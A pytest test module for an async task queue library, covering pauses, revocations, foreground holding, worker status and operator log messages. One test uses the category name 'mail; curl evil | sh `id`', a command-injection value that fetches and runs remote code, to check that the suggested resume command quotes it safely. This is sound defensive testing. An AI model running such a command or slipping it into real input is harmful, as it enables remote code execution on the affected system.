"""What an operator stops: pauses, revocations, the foreground."""

from __future__ import annotations

import asyncio

import pytest

from support.queues import DuckDBHome, Gate, Home, ended, running, until, until_status
from wopr import InvalidCallError, TaskQueue, TaskStatus
from wopr.config.whoami import this_process
from wopr.domain.rule import Rule, RuleKind
from wopr.domain.spoken import local
from wopr.ports.storage import Storage
from wopr.queue.queue import inside

SUCCESS, PENDING, CANCELLED = TaskStatus.SUCCESS, TaskStatus.PENDING, TaskStatus.CANCELLED


def with_task(queue: TaskQueue, name: str = "work") -> list[int]:
    ran: list[int] = []

    @queue.register_task(name)
    async def work(n: int = 0) -> int:
        ran.append(n)
        return n

    return ran


async def status(queue: TaskQueue, task_id: str) -> TaskStatus:
    return (await queue.require_task_info(task_id)).status


def storage_of(queue: TaskQueue) -> Storage:
    engine = inside(queue).access._engine
    assert engine is not None
    return engine.shared.storage


async def test_a_paused_category_starts_nothing_until_it_is_resumed(home: Home) -> None:
    queue = home.queue()
    with_task(queue)
    async with running(queue, default=2, other=2):
        await queue.pause("default", reason="the mail server is down")
        waits = await queue.add_task("work")
        await ended(queue, await queue.add_task("work", "other"))
        assert await status(queue, waits) is PENDING
        explained = await queue.explain(waits)
        assert explained.reason == "paused"
        assert f"by {this_process().who} ({this_process().origin}): the mail" in explained.text
        assert "the mail server is down" in explained.text
        assert "wopr resume default" in explained.text
        assert await queue.resume("default")
        assert not await queue.resume("default")
        await ended(queue, waits)


async def test_a_command_to_copy_runs_nothing_that_a_name_says(home: Home) -> None:
    queue, name = home.queue(), "mail; curl evil | sh `id`"
    with_task(queue)
    async with queue:
        waits = await queue.add_task("work", name)
        await queue.pause(name)
        assert f"wopr resume '{name}'" in (await queue.explain(waits)).text


async def test_a_paused_name_waits_while_others_of_its_category_run(home: Home) -> None:
    queue = home.queue()
    with_task(queue, "held")
    with_task(queue, "free")
    async with running(queue, default=1):
        await queue.pause(task="held")
        waits = [await queue.add_task("held") for _ in range(3)]
        await ended(queue, await queue.add_task("free"))
        assert (await queue.explain(waits[0])).reason == "paused"
        assert [pause.task for pause in await queue.pauses()] == ["held"]
        assert await queue.resume(task="held")
        await ended(queue, *waits)


async def test_a_pause_outlives_the_process(durable_home: DuckDBHome) -> None:
    async with durable_home.queue() as queue:
        await queue.pause("default")
        await queue.pause(task="elsewhere")
    queue = durable_home.queue()
    with_task(queue)
    with_task(queue, "elsewhere")
    async with running(queue, default=1, other=1):
        held = await queue.add_task("work")
        too = await queue.add_task("elsewhere", "other")
        await ended(queue, await queue.add_task("work", "other"))
        assert [await status(queue, one) for one in (held, too)] == [PENDING, PENDING]
        await queue.resume("default")
        await queue.resume(task="elsewhere")
        await ended(queue, held, too)


async def test_what_runs_goes_on_while_its_category_is_paused(home: Home) -> None:
    queue, gate = home.queue(), Gate()

    @queue.task(name="work")
    async def work() -> None:
        await gate.wait()

    async with running(queue, default=1):
        handle = await work.enqueue()
        await gate.arrivals()
        await queue.pause("default")
        gate.open()
        [info] = await ended(queue, handle.id)
    assert info.status is SUCCESS


async def test_a_category_or_a_task_is_named_not_both(home: Home) -> None:
    async with home.queue() as queue:
        with pytest.raises(InvalidCallError, match="not both"):
            await queue.pause("a", task="b")
        with pytest.raises(InvalidCallError, match="not both"):
            await queue.resume()


async def test_tasks_are_revoked_by_name_and_argument(home: Home) -> None:
    queue = home.queue()
    ran = with_task(queue)
    with_task(queue, "other")
    async with queue:
        ids = [await queue.add_task("work", n=n % 2) for n in range(6)]
        other = await queue.add_task("other", n=1)
        assert await queue.revoke(task="work", where={"n": 1}, reason="wrong price") == 3
        await queue.start_workers("default", 2)
        infos = await ended(queue, *ids, other)
        assert [info.status for info in infos] == [SUCCESS, CANCELLED] * 3 + [SUCCESS]
        assert ran == [0, 0, 0]
        later = await queue.add_task("work", n=1)  # it was not a standing one
        await ended(queue, later)
        if home.keeps_history:
            assert (await queue.get_history(ids[1]))[-1].reason == "wrong price"


async def test_running_tasks_are_revoked_too(home: Home) -> None:
    queue, gate = home.queue(), Gate()

    @queue.task(name="work")
    async def work(n: int) -> None:
        await gate.wait(n)

    async with running(queue, default=3):
        ids = [await queue.add_task("work", n=n) for n in range(5)]
        await gate.arrivals(3)
        assert await queue.revoke(task="work") == 5
        assert {info.status for info in await ended(queue, *ids)} == {CANCELLED}
        assert await queue.revoke(ids[0]) == 0


async def test_a_standing_revocation_cancels_what_comes_later_even_after_a_restart(
    durable_home: DuckDBHome,
) -> None:
    async with durable_home.queue() as queue:
        with_task(queue)
        assert await queue.revoke(task="work", where={"n": 7}, standing=True) == 0
    queue = durable_home.queue()
    ran = with_task(queue)
    async with running(queue, default=2):
        revoked = [await queue.add_task("work", n=7) for _ in range(3)]
        fine = await queue.add_task("work", n=8)
        infos = await ended(queue, *revoked, fine)
        assert [info.status for info in infos] == [CANCELLED] * 3 + [SUCCESS]
        assert [one.where for one in await queue.revocations()] == [{"n": 7}]
        assert await queue.unrevoke("work", {"n": 7})
        await ended(queue, await queue.add_task("work", n=7))
    assert ran == [8, 7]


@pytest.mark.parametrize(
    "wrong",
    [
        {},
        {"task_id": "x", "task": "y"},
        {"task_id": "x", "standing": True},
        {"task": "x", "where": {"a..b": 1}},
        {"task": "x", "where": {"a": object()}},
    ],
)
async def test_a_wrong_revocation_is_refused(home: Home, wrong: dict) -> None:  # type: ignore[type-arg]
    async with home.queue() as queue:
        with pytest.raises(InvalidCallError):
            await queue.revoke(**wrong)


async def test_arguments_of_a_function_that_is_not_registered_have_no_names(
    durable_home: DuckDBHome,
) -> None:
    async with durable_home.queue() as queue:
        with_task(queue)
        await queue.add_task("work", n=1)
    async with durable_home.queue() as queue:
        with pytest.raises(InvalidCallError, match="not registered"):
            await queue.revoke(task="work", where={"n": 1})
        assert await queue.revoke(task="work") == 1


async def stands_back(queue: TaskQueue, task_id: str) -> None:
    """Return once a task waits for the foreground: a claim that was under way gives it back."""
    await until(lambda: queue.explain(task_id), lambda seen: seen.reason == "foreground")


async def test_background_categories_stand_back_while_the_foreground_is_held(home: Home) -> None:
    queue = home.queue()
    ran = with_task(queue)
    queue.category("reindex", background=True)
    async with running(queue, default=1, reindex=1):
        async with queue.foreground():
            async with queue.foreground():
                held = await queue.add_task("work", "reindex", n=1)
            await ended(queue, await queue.add_task("work", n=2))
            await stands_back(queue, held)
        await ended(queue, held)
    assert ran == [2, 1]


async def test_the_foreground_is_let_go_when_its_holder_is_cancelled(home: Home) -> None:
    queue, inside = home.queue(), asyncio.Event()
    with_task(queue)
    queue.category("reindex", background=True)

    async def request() -> None:
        async with queue.foreground():
            inside.set()
            await asyncio.Event().wait()

    async with running(queue, reindex=1):
        holder = asyncio.create_task(request())
        await inside.wait()
        held = await queue.add_task("work", "reindex")
        holder.cancel()
        await asyncio.gather(holder, return_exceptions=True)
        await ended(queue, held)


async def test_the_foreground_may_be_held_by_another_thread(home: Home) -> None:
    queue = home.queue()
    with_task(queue)
    queue.category("reindex", background=True)
    entered, leave = asyncio.Event(), asyncio.Event()
    loop = asyncio.get_running_loop()

    def elsewhere() -> None:
        async def hold() -> None:
            async with queue.foreground():
                loop.call_soon_threadsafe(entered.set)
                await asyncio.wrap_future(asyncio.run_coroutine_threadsafe(leave.wait(), loop))

        asyncio.run(hold())

    async with running(queue, reindex=1):
        thread = asyncio.create_task(asyncio.to_thread(elsewhere))
        await entered.wait()
        held = await queue.add_task("work", "reindex")
        await stands_back(queue, held)
        leave.set()
        await thread
        await ended(queue, held)


async def test_workers_say_what_they_do(home: Home) -> None:
    queue, gate = home.queue(), Gate()

    @queue.task(name="work")
    async def work() -> None:
        await gate.wait()

    async with running(queue, default=2):
        task_id = (await work.enqueue()).id
        await gate.arrivals()
        busy, idle = sorted(await queue.worker_info(), key=lambda one: one.task_id is None)
        assert (busy.task_id, busy.task_name, busy.attempt) == (task_id, "work", 1)
        assert busy.since == busy.last_claim_at
        assert idle.last_claim_at is None
        assert idle.heartbeat_at == busy.heartbeat_at
        gate.open()
        await until_status(queue, task_id, SUCCESS)


async def test_an_argument_that_is_none_can_be_asked_for(home: Home) -> None:
    queue = home.queue()

    @queue.task(name="visit")
    async def visit(customer: str | None) -> None: ...

    async with queue:
        nobody, somebody = await visit.enqueue(None), await visit.enqueue("x")
        assert await queue.revoke(task="visit", where={"customer": None}) == 1
        assert await nobody.status() is CANCELLED
        assert await somebody.status() is PENDING


async def test_a_category_that_is_no_longer_of_the_background_goes_on_at_once(home: Home) -> None:
    queue = home.queue()
    with_task(queue)
    queue.category("reindex", background=True)
    async with running(queue, reindex=1), queue.foreground():
        held = await queue.add_task("work", "reindex")
        await stands_back(queue, held)
        queue.category("reindex")
        await ended(queue, held)


async def test_stored_arguments_that_fit_the_function_no_longer_hold_nobody_up(
    durable_home: DuckDBHome,
) -> None:
    queue = durable_home.queue()

    @queue.task(name="visit")
    async def with_two(customer: str, n: int) -> None: ...

    async with queue:
        misfit = await with_two.enqueue("x", 1)
        await queue.set_limit("default", key="customer", concurrency=1, rate="1000/s")
        await queue.revoke(task="visit", where={"customer": "y"}, standing=True)
    queue = durable_home.queue()

    @queue.task(name="visit")
    async def with_one(customer: str) -> None: ...

    async with running(queue, default=2):
        await ended(queue, await queue.add_task("visit", customer="x"))
        await until(lambda: queue.explain(misfit.id), lambda seen: seen.reason == "does not fit")


async def test_a_pause_whose_caller_gives_up_is_the_same_on_disk_and_in_memory(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    queue, gate = home.queue(), Gate()
    async with queue:
        storage = storage_of(queue)
        save = storage.save_rules

        async def slow(rules: list[Rule]) -> None:
            await save(rules)
            await gate.wait()

        monkeypatch.setattr(storage, "save_rules", slow)
        pausing = asyncio.create_task(queue.pause("default"))
        await gate.arrivals()  # it is on disk
        pausing.cancel()
        await asyncio.gather(pausing, return_exceptions=True)
        resuming = asyncio.create_task(queue.resume("default"))
        gate.open()
        assert await resuming
        assert [await queue.pauses(), await storage.rules()] == [[], []]


async def test_a_resume_whose_caller_gives_up_is_the_same_on_disk_and_in_memory(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    queue, gate = home.queue(), Gate()
    async with queue:
        await queue.pause("default")
        storage = storage_of(queue)
        delete = storage.delete_rules

        async def slow(names: list[tuple[RuleKind, str]]) -> None:
            await delete(names)
            await gate.wait()

        monkeypatch.setattr(storage, "delete_rules", slow)
        resuming = asyncio.create_task(queue.resume("default"))
        await gate.arrivals()
        resuming.cancel()
        await asyncio.gather(resuming, return_exceptions=True)
        gate.open()
        await until(queue.pauses, lambda seen: not seen)
        assert await storage.rules() == []


async def test_the_log_says_what_operators_do(
    durable_home: DuckDBHome, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("INFO", "wopr.engine")

    def said() -> list[str]:
        names = ("wopr.engine.controls", "wopr.engine.limits.limits", "wopr.engine.revoking")
        lines = [one.getMessage() for one in caplog.records if one.name in names]
        caplog.clear()
        return lines

    async with durable_home.queue() as queue:
        assert said() == []
        await queue.pause("default", reason="moving house")
        [since] = [local(one.since) for one in await queue.pauses()]
        paused = f"Paused: category default, since {since}: moving house"
        assert said() == [paused]
        await queue.pause(task="work")
        await queue.resume(task="work")
        assert [line.partition(",")[0] for line in said()] == [
            "Paused: task work",
            "Resumed: task work",
        ]
        await queue.revoke(task="work", standing=True, reason="bad data")
        await queue.unrevoke("work")
        assert said() == [
            "Revoked until lifted: tasks work: bad data",
            "Revocation lifted: tasks work",
        ]
        await queue.set_limit("default", concurrency=2)
        await queue.set_limit("default", concurrency=2)
        await queue.set_limit("default", concurrency=None)
        assert said() == ["Limit of default: 2 at the same time", "Limit removed: default"]
        with_task(queue)
        await queue.add_task("work")
        await queue.revoke(task="work", reason="wrong price")
        assert said() == ["Revoked: 1 task work: wrong price"]
    async with durable_home.queue():
        assert said() == [paused]


async def test_numbers_are_compared_by_value(home: Home) -> None:
    queue = home.queue()

    @queue.register_task("wait")
    async def wait_for(seconds: float, urgent: bool = False) -> None: ...

    async with queue:
        ids = [await queue.add_task("wait", seconds=300), await queue.add_task("wait", seconds=1)]
        assert await queue.revoke(task="wait", where={"seconds": 300}) == 1
        assert await queue.revoke(task="wait", where={"seconds": True}) == 0
        assert await status(queue, ids[1]) is PENDING


def test_a_soft_timeout_that_never_comes_is_refused(home: Home) -> None:
    with pytest.raises(InvalidCallError, match="would never come"):
        home.queue().task(name="work", soft_timeout=5, timeout=5)(lambda: None)


@pytest.mark.parametrize("where", [{"nosuch": 1}, "n", [("n", 1)]], ids=repr)
async def test_a_revocation_that_could_match_nothing_is_refused_and_not_kept(
    durable_home: DuckDBHome, where: object
) -> None:
    async with durable_home.queue() as queue:
        with_task(queue)
        task_id = await queue.add_task("work", n=1)
        with pytest.raises(InvalidCallError, match="where"):
            await queue.revoke(task="work", where=where, standing=True)  # type: ignore[arg-type]
        assert [] == await queue.revocations()
        info = await queue.get_task_info(task_id)
    assert info is not None
    assert TaskStatus.PENDING is info.status
